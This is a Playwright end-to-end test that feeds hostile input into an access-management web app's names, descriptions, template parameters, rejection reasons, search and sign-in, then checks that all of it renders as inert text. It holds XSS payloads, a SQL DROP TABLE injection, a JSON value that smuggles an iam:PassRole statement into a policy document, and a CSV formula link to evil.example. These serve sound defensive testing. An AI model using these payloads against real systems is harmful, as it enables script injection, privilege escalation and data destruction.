// Hostile text in every free-text input that is displayed later: it must be stored verbatim and
// rendered as text — no script runs, no element is injected, no SQL is executed.
import { expect, test, type Page } from "@playwright/test";
import { APP_URL, USERS } from "./fixtures/users";
import { signIn, signInApi } from "./support/session";
import { postAction } from "./support/action-call";

const HTML = `<img src=x onerror="window.__pwned=1">`;
const SCRIPT = `<script>window.__pwned=2</script>`;
const SVG = `"><svg onload="window.__pwned=3">`;
const SQL = `'; DROP TABLE "Member";--`;

/** Fails on any dialog, injected element or flag the payloads would set if they executed. */
async function expectInert(page: Page) {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  await expect(page.locator('img[src="x"], svg[onload], main script')).toHaveCount(0);
}

test("hostile names, descriptions, parameters and reasons render as text and survive intact", async ({
  page,
  playwright,
}) => {
  const stamp = Date.now();
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const operator = await playwright.request.newContext({ baseURL: APP_URL });
  await signInApi(operator, USERS.operator.email);
  const admin = await playwright.request.newContext({ baseURL: APP_URL });
  await signInApi(admin, USERS.admin.email);

  const personName = `P${stamp} ${HTML} ${SQL}`;
  const jobRole = SCRIPT;
  const person = await postAction(operator, "createEmployeeAction", [
    { name: personName, email: `p${stamp}@example.com`, jobRole },
  ]);
  expect(person.result?.ok, JSON.stringify(person.result)).toBe(true);

  const memberName = `M${stamp} ${SVG} ${SQL}`;
  const member = await postAction(admin, "inviteMemberAction", [
    { email: `m${stamp}@test.local`, name: memberName, role: "auditor", signIn: "sso" },
  ]);
  expect(member.result?.ok, JSON.stringify(member.result)).toBe(true);

  const templateName = `Injected${stamp}`;
  const description = `${HTML} ${SQL}`;
  const paramDescription = `${SCRIPT} ${SVG}`;
  const document = JSON.stringify({
    Version: "2012-10-17",
    Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: "arn:aws:s3:::${Bucket}/*" }],
  });
  const saved = await postAction(operator, "saveTemplateAction", [
    {
      name: templateName,
      description,
      parameters: [{ name: "Bucket", description: paramDescription, type: "string", example: `${HTML}` }],
      document,
      acknowledgeWarnings: true,
    },
  ]);
  expect(saved.result?.ok, JSON.stringify(saved.result)).toBe(true);

  // A parameter value typed at publish time ends up in the policy document the plan shows: it
  // must stay inside its JSON string (no statement smuggled in) and render as text.
  const value = `"}],"Statement":[{"Effect":"Allow","Action":"iam:PassRole","Resource":"x"}]} ${HTML} ${SQL}`;
  const publish = await postAction<{ id: string }>(operator, "createRequestAction", [
    { kind: "template.publish", input: { name: templateName, version: 1, values: { Bucket: value } } },
  ]);
  expect(publish.result?.ok, JSON.stringify(publish.result)).toBe(true);
  const publishId = (publish.result as { data: { id: string } }).data.id;

  const request = await postAction<{ id: string }>(operator, "createRequestAction", [
    { kind: "group.add-member", input: { userName: "jane", groupName: "Accountants" } },
  ]);
  expect(request.result?.ok, JSON.stringify(request.result)).toBe(true);
  const requestId = (request.result as { data: { id: string } }).data.id;
  const reason = `${HTML} ${SCRIPT} ${SQL}`;
  const rejected = await postAction(admin, "rejectRequestAction", [{ id: requestId, reason }]);
  expect(rejected.result?.ok, JSON.stringify(rejected.result)).toBe(true);

  await signIn(page, USERS.admin.email);
  await page.goto(`/people?q=P${stamp}`);
  await expect(page.getByText(personName, { exact: false }).filter({ visible: true }).first()).toBeVisible();
  await expect(page.getByText(jobRole).filter({ visible: true }).first()).toBeVisible();
  await expectInert(page);

  await page.goto("/settings/team");
  await expect(page.getByText(memberName).filter({ visible: true }).first()).toBeVisible();
  await expectInert(page);

  await page.goto(`/templates/${templateName}`);
  await expect(page.getByText(description).filter({ visible: true }).first()).toBeVisible();
  await expect(page.getByText(paramDescription).filter({ visible: true }).first()).toBeVisible();
  await expectInert(page);

  await page.goto(`/requests/${publishId}`);
  await page.getByTestId("plan-step").first().getByText("Parameters").click();
  // Inside the JSON document the value's quotes are escaped (\"), so look for a quote-free part.
  await expect(
    page.getByText("<img src=x onerror=", { exact: false }).filter({ visible: true }).first(),
  ).toBeVisible();
  await expectInert(page);
  const planned = (await (await operator.get(`/api/requests/${publishId}`)).json()) as {
    steps: { params: { policyDocument?: string } }[];
  };
  const policy = JSON.parse(planned.steps[0].params.policyDocument ?? "{}") as {
    Statement: { Action: unknown; Resource: unknown }[];
  };
  expect(policy.Statement).toHaveLength(1);
  expect(policy.Statement[0].Action).toBe("s3:GetObject");
  expect(policy.Statement[0].Resource).toBe(`arn:aws:s3:::${value}/*`);

  await page.goto(`/requests/${requestId}`);
  await expect(page.getByText(reason, { exact: false }).filter({ visible: true }).first()).toBeVisible();
  await expectInert(page);

  // A hostile search term is a search term, not SQL.
  const search = await page.goto(`/people?q=${encodeURIComponent(SQL)}`);
  expect(search?.status()).toBe(200);
  await expectInert(page);
  expect(dialogs).toEqual([]);

  // The data survived verbatim (the members table still exists: everyone can still sign in),
  // and the audit log recorded the reason exactly as typed.
  await signInApi(operator, USERS.operator.email);
  const exported = (await (await admin.get("/api/audit/export?format=json")).json()) as {
    action: string;
    data: Record<string, unknown>;
  }[];
  expect(JSON.stringify(exported)).toContain(JSON.stringify(reason).slice(1, -1));

  // A failed sign-in for an email that is no member keeps nothing of what was typed (it is
  // counted per address instead), so a formula typed there cannot reach the CSV export at all.
  const formula = `=hyperlink("http://evil.example/${stamp}")`;
  const anonymous = await playwright.request.newContext({ baseURL: APP_URL });
  const { csrfToken } = await (await anonymous.get("/api/auth/csrf")).json();
  await anonymous.post("/api/auth/callback/credentials", {
    form: { csrfToken, email: formula, password: "wrong", json: "true" },
    maxRedirects: 0,
  });
  const csv = await (await admin.get("/api/audit/export?format=csv")).text();
  expect(csv).not.toContain(`evil.example/${stamp}`);
  await anonymous.dispose();
  await operator.dispose();
  await admin.dispose();
});
